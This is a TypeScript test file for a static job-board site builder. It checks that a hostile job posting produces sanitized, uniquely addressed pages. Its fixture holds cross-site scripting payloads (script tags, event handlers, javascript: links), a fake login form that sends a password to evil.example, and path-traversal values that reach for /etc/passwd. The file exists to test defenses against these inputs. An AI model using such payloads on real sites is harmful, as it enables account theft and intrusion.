import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import { buildSite, jobPostingsOf, writeFolder, type BuiltSite } from '../support/build-site.ts';
import { dangersIn } from '../support/dangers.ts';
import { posting, SAME_DIGITS } from '../support/postings.ts';

const CALENDAR = 'data:text/calendar;charset=utf-8,BEGIN%3AVCALENDAR%0D%0AEND%3AVCALENDAR';
const DESCRIPTION = `<p style="position:fixed">Fit <b onclick="alert(1)">glass</b>.</p>
<script>alert(2)</script><img src=x onerror="alert(3)">
<a href="javascript:alert(4)">Apply</a> <a href="https://ok.example/">Ours</a>
<a data-part="calendar" download="x.ics" href="${CALENDAR}">Add to calendar</a>
<form action="https://evil.example/"><input type="password" name="p"><button>Log in</button></form>
<style>body{display:none}</style><svg onload="alert(5)"></svg><iframe srcdoc="<script>alert(6)</script>"></iframe>`;

describe('a hostile posting', () => {
  let site: BuiltSite;
  before(() => {
    site = buildSite(
      writeFolder({
        'hostile.json': posting({
          title: 'Glazier </script><script>alert(7)</script>',
          description: DESCRIPTION,
          slug: '../../index',
          id: '../../index',
          url: 'javascript:alert(8)',
          validThrough: '2026-12-24',
          applicationContact: { url: CALENDAR },
          hiringOrganization: {
            name: '"><img src=x onerror=alert(9)>',
            sameAs: 'javascript:alert(10)',
          },
          identifier: { value: '../../../etc/passwd' },
        }),
        'harmless.json': posting({ title: 'Roofer', identifier: { value: 'b-1' } }),
        'same-digits-a.json': posting({ ...SAME_DIGITS[0], description: 'Bakes bread.' }),
        'same-digits-b.json': posting({ ...SAME_DIGITS[1], description: 'Bakes cakes.' }),
      }),
    );
  });
  after(() => site.remove());

  test('builds a page at its own address, beside the others', () => {
    assert.equal(site.code, 0, site.stderr);
    const [, , hostile = '', harmless = '', ...others] = site.jobPages();
    assert.match(hostile, /^jobs\/glazier-script-script-alert-7-script-[0-9a-f]{10}\/$/);
    assert.match(harmless, /^jobs\/roofer-[0-9a-f]{10}\/$/);
    assert.deepEqual(others, []);
    assert.match(site.page('').querySelector('h1')?.textContent ?? '', /4 jobs/);
  });

  test('shares no address with another, though the digits of both agree', () => {
    const bakers = site.jobPages().slice(0, 2);
    assert.deepEqual(bakers, ['jobs/baker-7e2ad4ded1/', 'jobs/baker-7e2ad4ded1ec/']);
    assert.deepEqual(
      bakers.map((path) => site.page(path).querySelector('.prose')?.textContent?.trim()),
      ['Bakes bread.', 'Bakes cakes.'],
    );
  });

  test('leaves nothing on any page that runs, loads or submits', () => {
    for (const path of site.files().filter((file) => file.endsWith('.html'))) {
      assert.deepEqual(dangersIn(site.page(path)), [], path);
    }
  });

  test('has no link that holds its target but the page’s own calendar entry', () => {
    const page = site.page(site.jobPages()[2] ?? '');
    const holding = [...page.querySelectorAll('a[href^="data:" i]')];
    assert.equal(holding.length, 1);
    const entry = decodeURIComponent(holding[0]?.getAttribute('href') ?? '');
    assert.match(entry, /^data:text\/calendar;charset=utf-8,BEGIN:VCALENDAR\r\n/);
    // The title is one line of text in the entry.
    assert.match(
      entry.replaceAll('\r\n ', ''),
      /\r\nSUMMARY:[^\r\n]*<script>alert\(7\)<\/script>[^\r\n]*\r\n/,
    );
  });

  test('keeps its words, its title as text and its one harmless link', () => {
    const page = site.page(site.jobPages()[2] ?? '');
    assert.equal(
      page.querySelector('h1')?.textContent,
      'Glazier </script><script>alert(7)</script>',
    );
    const prose = page.querySelector('.prose');
    assert.match(prose?.textContent ?? '', /Fit glass\./);
    const links = [...(prose?.querySelectorAll('a') ?? [])].map((link) =>
      link.getAttribute('href'),
    );
    assert.deepEqual(links, ['https://ok.example/']);
    const [jobPosting] = jobPostingsOf(page);
    assert.equal(jobPosting?.['title'], 'Glazier </script><script>alert(7)</script>');
  });

  test('would be seen if the policy let its description through', () => {
    const page = site.page(site.jobPages()[2] ?? '');
    const prose = page.querySelector('.prose');
    assert.ok(prose);
    prose.innerHTML = DESCRIPTION;
    const found = dangersIn(page).join('\n');
    for (const danger of [
      'script',
      'onerror',
      'javascript:',
      '<form',
      'style',
      'iframe',
      'onload',
    ]) {
      assert.ok(found.includes(danger), danger);
    }
  });
});
